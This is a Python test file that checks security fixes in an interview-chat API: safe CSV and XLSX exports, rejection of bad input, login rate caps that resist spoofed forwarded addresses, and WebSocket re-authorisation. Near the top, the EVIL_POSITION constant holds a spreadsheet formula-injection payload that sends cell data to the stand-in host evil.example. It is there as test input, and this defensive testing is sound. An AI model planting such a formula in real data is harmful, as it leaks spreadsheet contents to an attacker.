"""Issue 11's findings, each reproduced through a real server: `uvicorn api:app --workers 2` on a SQLite file, then on
a fresh PostgreSQL schema, with its limits in the real Redis. Every test here failed before its fix."""

from __future__ import annotations

import asyncio
import io
import json
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import nullcontext
from dataclasses import dataclass, field
from datetime import timedelta

import httpx
import pytest
import yaml
from openpyxl import load_workbook
from sqlalchemy import text

from tests.api.helpers import LiveServer, close_code, recv_json, recv_until, scratch_schema, server_env, ws_connect
from tests.conftest import PG_ADMIN_URL

REDIS_URL = "redis://127.0.0.1:6379"
SESSION_LIMIT = 5
PASSWORD = "Secure#2024"
# Accounts of this module, registered before the server starts, so a lock-out in one test never touches another.
ACCOUNTS = ("quota", "gone", "locked", "spoofed", "regular", "export")
EVIL_POSITION = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


@dataclass
class Server:
    live: LiveServer
    database_url: str
    env: dict[str, str]
    tokens: dict[str, str] = field(default_factory=dict)

    def token(self, username: str) -> str:
        if username in ("candidate", "staff"):
            return self.live.token(username)
        if username not in self.tokens:
            self.tokens[username] = login(self, username)
        return self.tokens[username]

    def headers(self, username: str = "regular") -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token(username)}"}


def login(server: Server, username: str, password: str = PASSWORD, peer: str | None = None) -> str:
    headers = {"X-Forwarded-For": peer} if peer else {}
    with server.live.http() as http:
        response = http.post("/api/v1/auth/token", data={"username": username, "password": password},
                             headers=headers)
    assert response.status_code == 200, response.text
    return response.json()["access_token"]


def settings_for(env: dict[str, str]):
    from core.config import load_settings

    return load_settings(env)


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def server(request, tmp_path_factory) -> Iterator[Server]:
    """Two workers on one database, limits in Redis, at most SESSION_LIMIT sessions per user."""
    tmp = tmp_path_factory.mktemp(f"security-{request.param}")
    with (scratch_schema(request.getfixturevalue("pg_admin"), PG_ADMIN_URL) if request.param == "postgres"
          else nullcontext(f"sqlite:///{tmp / 'security.db'}")) as database_url:
        yield from _two_workers(tmp, database_url)


def _two_workers(tmp, database_url: str) -> Iterator[Server]:
    from core import auth
    from core.db import dispose_engines, get_engine

    env = server_env(tmp, None, DATABASE_URL=database_url, REDIS_URL=REDIS_URL,
                     MAX_SESSIONS_PER_USER=str(SESSION_LIMIT))
    settings = settings_for(env)
    for i, name in enumerate(ACCOUNTS):
        auth.register_account(first_name="测", last_name="试", email=f"{name}@example.com", username=name,
                              password=PASSWORD, repeat_password=PASSWORD, client=f"setup-{i}", settings=settings)
    get_engine(database_url)  # migrated once before two workers start on it
    live = LiveServer(tmp, env, extra_args=("--workers", "2")).start()
    try:
        yield Server(live, database_url, env)
    finally:
        live.stop()
        dispose_engines()


def start(server: Server, username: str = "regular", **body) -> httpx.Response:
    with server.live.http() as http:
        return http.post("/api/v1/chat/start", headers=server.headers(username),
                         json={"target_position": "后端开发工程师", "field": "后端开发"} | body)


def delete(server: Server, session_id: str, username: str = "regular") -> None:
    with server.live.http() as http:
        http.delete(f"/api/v1/chat/sessions/{session_id}", headers=server.headers(username))


@pytest.fixture
def sid(server) -> Iterator[str]:
    """A fresh session of `regular`, deleted afterwards (the server allows only SESSION_LIMIT per user)."""
    response = start(server)
    assert response.status_code == 201, response.text
    yield response.json()["session_id"]
    delete(server, response.json()["session_id"])


def run(coro):
    return asyncio.run(asyncio.wait_for(coro, 90))


# --- 1, 2: exports -------------------------------------------------------------------------------------------

def export(server: Server, fmt: str) -> bytes:
    with server.live.http() as http:
        response = http.get("/api/v1/stats/sessions", params={"format": fmt}, headers=server.headers("staff"))
    assert response.status_code == 200, response.text
    return response.content


def test_a_formula_typed_as_a_position_is_text_in_csv_and_xlsx(server):
    assert start(server, "export", target_position=EVIL_POSITION).status_code == 201

    csv_text = export(server, "csv").decode("utf-8-sig")
    assert "'" + EVIL_POSITION.replace('"', '""') in csv_text
    assert f",{EVIL_POSITION}" not in csv_text and f',"{EVIL_POSITION}' not in csv_text

    sheet = load_workbook(io.BytesIO(export(server, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == EVIL_POSITION]
    assert cells and all(cell.data_type == "s" for cell in cells)  # a text cell, never a formula


def test_a_control_character_stored_by_an_older_release_does_not_break_the_xlsx_export(server):
    from core.db import get_engine

    session_id = start(server, "export").json()["session_id"]
    with get_engine(server.database_url).begin() as conn:
        conn.execute(text("UPDATE interview_session SET target_position = :p WHERE id = :id"),
                     {"p": "后端\u000b开发", "id": session_id})

    sheet = load_workbook(io.BytesIO(export(server, "xlsx"))).active
    assert "后端 开发" in [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]


# --- 3, 10, 11: input at the edge ----------------------------------------------------------------------------

def raw_json(server: Server, method: str, url: str, body: str) -> httpx.Response:
    headers = server.headers() | {"Content-Type": "application/json"}
    with server.live.http() as http:
        return http.request(method, url, headers=headers, content=body.encode())


@pytest.mark.parametrize("case", ["content_nul", "cmid_nul", "position_nul", "position_vt", "position_surrogate",
                                  "content_blank", "content_surrogate", "path_nul", "filter_nul", "path_surrogate"])
def test_control_characters_and_lone_surrogates_are_422_never_500(server, sid, case):
    messages = f"/api/v1/chat/sessions/{sid}/messages"
    requests = {
        "content_nul": ("POST", messages, '{"content": "我负责\\u0000后端"}'),
        "cmid_nul": ("POST", messages, '{"content": "我负责后端", "client_message_id": "a\\u0000b"}'),
        "position_nul": ("POST", "/api/v1/chat/start", '{"target_position": "后端\\u0000开发"}'),
        "position_vt": ("POST", "/api/v1/chat/start", '{"target_position": "后端\\u000b开发"}'),
        "position_surrogate": ("POST", "/api/v1/chat/start", '{"target_position": "后端\\ud800"}'),
        "content_blank": ("POST", messages, '{"content": " \\u3000\\n\\t "}'),
        "content_surrogate": ("POST", messages, '{"content": "答案\\udfff"}'),
        "path_nul": ("GET", f"/api/v1/chat/history/{sid}%00", ""),
        "filter_nul": ("GET", "/api/v1/stats/sessions?field=%E5%90%8E%00", ""),
        "path_surrogate": ("DELETE", "/api/v1/chat/sessions/%ED%A0%80", ""),
    }
    method, url, body = requests[case]
    headers = server.headers("staff" if case == "filter_nul" else "regular") | {"Content-Type": "application/json"}
    with server.live.http() as http:
        response = http.request(method, url, headers=headers, content=body.encode())
    assert response.status_code == 422, response.text
    assert response.json()["detail"]
    with server.live.http() as http:  # nothing was stored, and the session still works
        history = http.get(f"/api/v1/chat/history/{sid}", headers=server.headers()).json()
    assert [m["role"] for m in history["messages"]] == ["assistant"]


def test_a_job_description_within_its_limit_is_never_too_large_once_escaped(server):
    body = json.dumps({"target_position": "职" * 100, "field": "域" * 50, "name": "名" * 60,
                       "job_description": "\U0001f600" * 8000})  # ensure_ascii: 12 bytes per emoji, ~98 KB
    assert len(body) > 64 * 1024
    response = raw_json(server, "POST", "/api/v1/chat/start", body)
    assert response.status_code == 201, response.text
    delete(server, response.json()["session_id"])


def test_websocket_refuses_bad_text_and_deep_frames_and_stays_usable(server, sid):

    async def scenario():
        async with await ws_connect(server.live, sid, token=server.token("regular")) as ws:
            await recv_json(ws)  # state
            frames = []
            for raw in ('{"type": "message", "content": "我\\u0000负责"}',
                        '{"type": "message", "content": "答案\\ud800", "client_message_id": "x\\ud800"}',
                        "[" * 20_000 + "]" * 20_000,
                        '{"type": "message", "content": "ok", "nested": ' + "[" * 50 + "]" * 50 + "}"):
                await ws.send(raw)
                frames.append(await recv_json(ws))
            await ws.send('{"type": "ping"}')
            pong = await recv_json(ws)
            return frames, pong

    frames, pong = run(scenario())
    assert [(f["type"], f["code"], f["retryable"]) for f in frames] == [
        ("error", "invalid_input", False), ("error", "invalid_input", False),
        ("error", "bad_request", False), ("error", "bad_request", False)]
    assert "client_message_id" not in frames[1]  # a bad id is never echoed back
    assert pong == {"type": "pong"}


# --- 7: login ------------------------------------------------------------------------------------------------

def failed_login(server: Server, username: str, peer: str) -> httpx.Response:
    with server.live.http() as http:
        return http.post("/api/v1/auth/token", data={"username": username, "password": "Wrong#2024"},
                         headers={"X-Forwarded-For": peer})


def test_an_unknown_username_answers_as_slowly_as_a_known_one(server):
    def timed(username: str, i: int) -> float:
        began = time.monotonic()
        assert failed_login(server, username, f"10.60.0.{i}").status_code == 401
        return time.monotonic() - began

    known = sorted(timed("export" if i % 2 else "quota", i) for i in range(4))
    unknown = sorted(timed(f"nobody{i}", 10 + i) for i in range(4))
    # Both pay one bcrypt check (an unknown user is checked against a stand-in hash): no account enumeration.
    assert unknown[1] > 0.5 * known[1], (unknown, known)


def test_a_forged_forwarded_address_does_not_lift_the_failed_login_cap(server):
    for i in range(20):
        assert failed_login(server, "spoofed", f"10.20.{i}.1").status_code == 401
    with server.live.http() as http:
        response = http.post("/api/v1/auth/token", data={"username": "spoofed", "password": PASSWORD},
                             headers={"X-Forwarded-For": "10.99.99.99"})
    assert response.status_code == 429 and 0 < int(response.headers["retry-after"]) <= 15 * 60


def test_the_failed_login_cap_is_shared_by_both_workers(server):
    statuses = [failed_login(server, "locked", "10.30.0.1").status_code for _ in range(8)]
    assert statuses == [401] * 5 + [429] * 3  # with per-process counters two workers allowed up to ten


def test_successful_logins_are_throttled_per_address(tmp_path):
    from core import auth, ratelimit

    allowed = ratelimit.parse_rate(auth.LOGIN_ATTEMPTS_PER_PEER).amount
    live = LiveServer(tmp_path, server_env(tmp_path, None)).start()

    def one_login(peer: str) -> int:
        with httpx.Client(base_url=live.base_url, trust_env=False, timeout=120) as http:
            return http.post("/api/v1/auth/token", data={"username": "candidate", "password": "candidate123"},
                             headers={"X-Forwarded-For": peer}).status_code

    try:
        with ThreadPoolExecutor(max_workers=8) as pool:
            statuses = list(pool.map(one_login, ["10.40.0.1"] * allowed))
        over, elsewhere = one_login("10.40.0.1"), one_login("10.40.0.2")
    finally:
        live.stop()
    assert statuses == [200] * allowed
    assert (over, elsewhere) == (429, 200)


def test_a_burst_of_logins_never_starves_other_requests(tmp_path):
    """One worker, 60 logins at once: more than the shared request pool's 40 threads, where bcrypt used to run."""
    live = LiveServer(tmp_path, server_env(tmp_path, None)).start()

    def one_login(i: int) -> int:
        with httpx.Client(base_url=live.base_url, trust_env=False, timeout=120) as http:
            return http.post("/api/v1/auth/token", data={"username": "candidate", "password": "candidate123"},
                             headers={"X-Forwarded-For": f"10.50.0.{i}"}).status_code

    try:
        with ThreadPoolExecutor(max_workers=60) as pool:
            logins = [pool.submit(one_login, i) for i in range(60)]
            # Ask while the burst is being worked through: right after the first login is answered (a fixed wait
            # let a fast, idle machine finish all 60 first, and the test then proved nothing).
            deadline = time.monotonic() + 60
            while not any(f.done() for f in logins) and time.monotonic() < deadline:
                time.sleep(0.02)
            with live.http() as http:
                began = time.monotonic()
                health = http.get("/api/v1/health")
                waited = time.monotonic() - began
            still_running = sum(not f.done() for f in logins)
            statuses = [f.result() for f in logins]
    finally:
        live.stop()
    assert health.status_code == 200
    assert still_running > 0, "the burst ended before /health was asked: it proves nothing"
    assert waited < 1.5, f"/health took {waited:.1f} s behind {still_running} logins"
    assert set(statuses) <= {200, 503} and statuses.count(200) > 0


# --- 8: WebSockets are re-authorised on every frame ----------------------------------------------------------

def test_a_socket_whose_token_expired_gets_an_auth_error_and_4401(server, sid):
    from core import auth

    user = auth.AuthUser(username="regular", name="试测", roles=("candidate",))
    short, _ = auth.create_access_token(user, settings_for(server.env), lifetime=timedelta(seconds=2))

    async def scenario():
        async with await ws_connect(server.live, sid, token=short) as ws:
            await recv_json(ws)  # state: the token was still valid
            await asyncio.sleep(3)
            await ws.send(json.dumps({"type": "message", "content": "我做过三年后端开发。"}))
            error = await recv_json(ws)
            return error, await close_code(ws)

    error, (code, _reason) = run(scenario())
    assert (error["type"], error["code"], error["retryable"]) == ("error", "auth", False)
    assert code == 4401
    with server.live.http() as http:
        history = http.get(f"/api/v1/chat/history/{sid}", headers=server.headers()).json()
    assert [m["role"] for m in history["messages"]] == ["assistant"]  # the answer was not stored


def test_a_socket_of_a_deleted_account_is_closed_on_its_next_frame(server):
    sid = start(server, "gone").json()["session_id"]
    token = server.token("gone")

    async def scenario():
        async with await ws_connect(server.live, sid, token=token) as ws:
            await recv_json(ws)
            await ws.send('{"type": "ping"}')
            assert (await recv_json(ws)) == {"type": "pong"}
            path = server.live.env["AUTH_CONFIG"]
            with open(path, encoding="utf-8") as fh:
                accounts = yaml.safe_load(fh)
            del accounts["credentials"]["usernames"]["gone"]
            with open(path, "w", encoding="utf-8") as fh:
                yaml.safe_dump(accounts, fh, allow_unicode=True)
            await ws.send(json.dumps({"type": "message", "content": "我做过三年后端开发。"}))
            frame, _ = await recv_until(ws, "error")
            return frame, await close_code(ws)

    frame, (code, _reason) = run(scenario())
    assert frame["code"] == "auth" and code == 4401


# --- 9: the session limit holds under concurrent starts on two workers ---------------------------------------

def test_simultaneous_starts_never_exceed_the_session_limit(server):
    from core.db import get_engine

    token = server.token("quota")

    def one_start(_: int) -> int:
        with httpx.Client(base_url=server.live.base_url, trust_env=False, timeout=60) as http:
            return http.post("/api/v1/chat/start", headers={"Authorization": f"Bearer {token}"},
                             json={"target_position": "数据分析师"}).status_code

    with ThreadPoolExecutor(max_workers=40) as pool:
        statuses = list(pool.map(one_start, range(40)))
    with get_engine(server.database_url).connect() as conn:
        stored = conn.execute(text("SELECT count(*) FROM interview_session WHERE owner = 'quota'")).scalar_one()
    assert stored == SESSION_LIMIT
    assert statuses.count(201) == SESSION_LIMIT and statuses.count(409) == 40 - SESSION_LIMIT


# --- 12: a crashed worker's session is free again within ~15 s -----------------------------------------------

def test_a_session_left_by_a_killed_worker_is_free_again_within_the_short_lease(tmp_path, fake_llm):
    from sqlalchemy import select

    from core.db import dispose_engines, get_engine
    from core.models import InterviewSession, utcnow

    database_url = f"sqlite:///{tmp_path / 'crash.db'}"
    env = server_env(tmp_path, fake_llm.base_url, DATABASE_URL=database_url, INTERVIEWER_TIMEOUT="120")
    first = LiveServer(tmp_path, env).start()
    headers = first.headers("candidate")
    sid = first.start_session()
    fake_llm.hang_s = 120
    fake_llm.fail_next("timeout")  # the model call hangs: the turn holds its lease, the keeper renews it
    hung = ThreadPoolExecutor(max_workers=1)
    hung.submit(lambda: httpx.post(f"{first.base_url}/api/v1/chat/sessions/{sid}/messages", headers=headers,
                                   json={"content": "我做过三年后端开发。"}, timeout=150, trust_env=False))
    engine = get_engine(database_url)

    def lease_until():
        with engine.connect() as conn:
            row = conn.execute(select(InterviewSession.turn_lock_token, InterviewSession.turn_lock_until)
                               .where(InterviewSession.id == sid)).one()
        return row[1] if row[0] else None

    try:
        deadline = time.monotonic() + 30
        while lease_until() is None and time.monotonic() < deadline:
            time.sleep(0.2)
        taken = lease_until()
        time.sleep(7)  # past a renewal by the keeper
        renewed = lease_until()
        first.process.kill()  # kill -9: the lease is never released
        first.process.wait()
        killed_at = utcnow()
        fake_llm.reset()
        second = LiveServer(tmp_path, env).start()
        try:
            statuses = []
            while utcnow() < renewed + timedelta(seconds=20):
                with second.http() as http:
                    response = http.post(f"/api/v1/chat/sessions/{sid}/messages", headers=headers,
                                         json={"content": "我负责订单服务的拆分和性能优化。"})
                statuses.append(response.status_code)
                if response.status_code != 409:
                    break
                time.sleep(0.5)
        finally:
            second.stop()
    finally:
        hung.shutdown(wait=False, cancel_futures=True)
        dispose_engines()
    assert taken is not None and renewed > taken, "the keeper renews a running turn's lease"
    busy_for = (renewed - killed_at).total_seconds()
    assert busy_for <= 15.5, f"the session stays busy {busy_for:.0f} s after the crash"
    assert statuses[-1] == 200, statuses  # and then it is free: the next answer goes through
